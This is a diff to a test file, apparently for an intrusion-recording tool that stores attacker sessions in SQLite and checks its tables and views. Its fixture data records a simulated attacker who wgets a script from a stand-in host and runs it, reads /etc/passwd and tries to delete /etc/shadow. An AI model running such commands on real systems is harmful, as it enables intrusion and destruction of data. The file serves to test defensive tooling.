@@ -51,13 +51,18 @@ def test_tables(path, trace):
          [['-sh', None],
           ["wget 'http://198.51.100.7/a b' '" + SCRIPT.replace("'", "'\\\\''") + "'", 'ENOENT'],
           ["wget 'http://198.51.100.7/a b' '" + SCRIPT.replace("'", "'\\\\''") + "'", None],
-          ["./dropped 'it'\\\\''s' '\\342\\200\\256' ''", None]])
+          ["./dropped 'it'\\\\''s' '\\342\\200\\256' ''", None], ['nonsense', 'ENOENT'], ['nonsense', 'ENOENT']])
     same(db, 'SELECT action, address, port, scope, error FROM connections ORDER BY seq',
          [['accept', '203.0.113.9', 50022, 'public', None], ['connect', '198.51.100.7', 80, 'public', 'EINPROGRESS'],
           ['connect', '198.51.100.7', 80, 'public', None]])
     same(db, 'SELECT action, path, error FROM files ORDER BY seq',
          [['create', EVIL, None], ['read', '/etc/passwd', None], ['chmod', '/root/dropped', None],
           ['delete', '/root/dropped', None], ['delete', '/etc/shadow', 'EACCES']])
+    same(db, 'SELECT id, remote, local, ended_ns > started_ns AS ended FROM sessions',
+         [[1, '203.0.113.9:50022', '10.0.0.1:22', 1]])
+    same(db, 'SELECT session, remote FROM processes WHERE pid = 101', [[1, '203.0.113.9:50022']])
+    for table in 'commands', 'files':
+        same(db, f'SELECT DISTINCT session, remote FROM {table}', [[1, '203.0.113.9:50022']])
     same(db, "SELECT kind, text FROM events", [['signal', 'SIGINT'], ['log', "a module's line"]])
     same(db, "SELECT value FROM facts WHERE about = 'guest' AND key = 'release'", [['6.1 <b>']])
 
@@ -86,7 +91,7 @@ def test_views_and_search(path, trace):
     same(db, 'SELECT address, port, times, by FROM what_was_contacted', [['198.51.100.7', 80, 2, 'sh']])
     same(db, 'SELECT address, pid FROM who_came', [['203.0.113.9', 100]])
     expect(query(db, 'SELECT * FROM who_ran_what')[0]['line'] == '-sh', 'who_ran_what')
-    expect(query(db, 'SELECT * FROM failures')[0]['times'] == 1, 'failures')
+    expect(query(db, 'SELECT * FROM failures')[0]['times'] == 2, 'failures')
     same(db, "SELECT count(*) FROM search WHERE search MATCH 'dropped'", [[3]])
     same(db, "SELECT kind, text FROM search WHERE search MATCH 'passwd'", [['file', '/etc/passwd']])
 
